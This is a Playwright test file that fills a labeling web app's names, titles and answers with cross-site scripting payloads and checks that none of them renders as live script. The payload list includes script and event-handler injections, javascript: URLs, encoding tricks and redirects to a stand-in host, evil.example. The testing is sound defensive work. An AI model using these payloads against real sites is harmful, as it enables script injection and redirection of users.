"""A5: names that would be scripts, were they not shown as text."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest
from PIL import Image

from allencv_al.labels.label_store import LabelKind
from allencv_al.labels.sessions.answers import NewAnswer
from allencv_al.labels.sessions.items import NewItem
from allencv_al.labels.sessions.labeling_store import LABELING_NAME, LabelingStore
from allencv_al.service.labeling.app import create_app
from allencv_al.service.web.running import ServerThread, start_in_thread
from allencv_al.service.web.web_settings import WebSettings

with suppress(ImportError):  # the fixture `browser` says so
    from playwright.sync_api import expect

if TYPE_CHECKING:
    from playwright.sync_api import Page

TITLE = "</title><script>alert(0)</script>"
PAYLOADS = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)>"),
    *('"><script>alert(4)</script>', "'><img src=x onerror=alert(5)>", "<b onmouseover=alert(6)>"),
    *("javascript:alert(7)", "data:text/html,<script>alert(8)</script>", "</style><b>alert(9)"),
    *("<iframe srcdoc='<script>alert(10)</script>'>", "<object data=javascript:alert(11)>"),
    *("<details open ontoggle=alert(12)>", "<video><source onerror=alert(13)>", "{{13*14}}"),
    *("<a href=javascript:alert(15)>x</a>", "<form action=//evil.example><input type=submit>"),
    *("<style>@import '//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example>"),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content='0;//evil.example'>"),
    *("<img src=//evil.example/x.png>", "${alert(22)}", "<!--<img src='--><img src=x onerror=1>"),
    *("&lt;script&gt;alert(24)&lt;/script&gt;", "&#60;img src=x onerror=alert(25)&#62;"),
    *("<scr<script>ipt>alert(26)</script>", "\uff1cscript\uff1ealert(27)", "\u202e<b>gpj.tac"),
    *("<math><mtext><img src=x onerror=alert(29)>", "' onfocus=alert(30) autofocus='"),
]
ATTACKS = """() => {
  const allowed = new URL("static/", location.href).href;
  const scripts = [...document.scripts].filter(
    (one) => !one.src.startsWith(allowed) || one.textContent !== "");
  const handlers = [...document.querySelectorAll("*")].filter(
    (one) => [...one.attributes].some((attribute) => attribute.name.startsWith("on")));
  const foreign = [...document.querySelectorAll(
    "iframe, object, embed, base, meta[http-equiv], style, video, svg[onload], form[action]")];
  const addresses = [...document.querySelectorAll("[href], [src]")].filter(
    (one) => !["http:", "blob:"].includes(new URL(one.href || one.src, location.href).protocol));
  return [...scripts, ...handlers, ...foreign, ...addresses].map((one) => one.outerHTML);
}"""


@pytest.fixture
def server(tmp_path: Path) -> Iterator[ServerThread]:
    """A labeling in which everything that has a name has a hostile one."""
    picture = tmp_path / "picture.png"
    generator = np.random.default_rng(0)
    Image.fromarray(generator.integers(0, 256, (6, 8, 3), dtype=np.uint8)).save(picture)
    with LabelingStore(tmp_path / LABELING_NAME) as store:
        store.classes.add(PAYLOADS, "owner")
        items = [NewItem(name, picture, name, [(name, 0.5)]) for name in PAYLOADS]
        store.items.open_batch(items)
        for item, name in enumerate(PAYLOADS[:-1], start=1):
            store.answers.add(NewAnswer(name, f"key {item}", item, LabelKind.LABEL, item))
        started = start_in_thread(create_app(tmp_path, title=TITLE, settings=WebSettings(port=0)))
        yield started
        started.close()


def test_no_name_is_a_script(page: Page, server: ServerThread) -> None:
    def assert_harmless() -> None:
        assert page.evaluate(ATTACKS) == []

    page.goto(server.url)
    page.fill("#name", PAYLOADS[1])
    page.keyboard.press("Enter")
    expect(page.locator("#file-name")).to_have_text(PAYLOADS[-1])
    expect(page.locator("#reason")).to_contain_text(PAYLOADS[-1])
    assert page.title().startswith(TITLE) or TITLE in page.locator("h1").inner_text()
    shown = page.locator(".class-button").all_inner_texts()
    assert all(any(name in text for text in shown) for name in PAYLOADS)
    assert_harmless()

    page.keyboard.press("g")
    expect(page.locator("#guess-text")).to_contain_text(PAYLOADS[-1])
    assert_harmless()

    page.keyboard.press("r")
    expect(page.locator(".tile")).to_have_count(len(PAYLOADS) - 1)
    assert page.locator(".tile-said").all_inner_texts() == [
        f"{name}: {name}" for name in PAYLOADS[:-1]
    ]
    assert set(PAYLOADS) <= set(page.locator("#review-class option").all_inner_texts())
    assert_harmless()

    page.keyboard.press("c")
    expect(page.locator("#people tbody tr")).to_have_count(len(PAYLOADS) - 1)
    people = page.locator("#people tbody tr td:first-child").all_inner_texts()
    assert sorted(people) == sorted(PAYLOADS[:-1])
    page.locator("#class-history summary").click()
    expect(page.locator("#class-changes li")).to_have_count(len(PAYLOADS))
    assert_harmless()
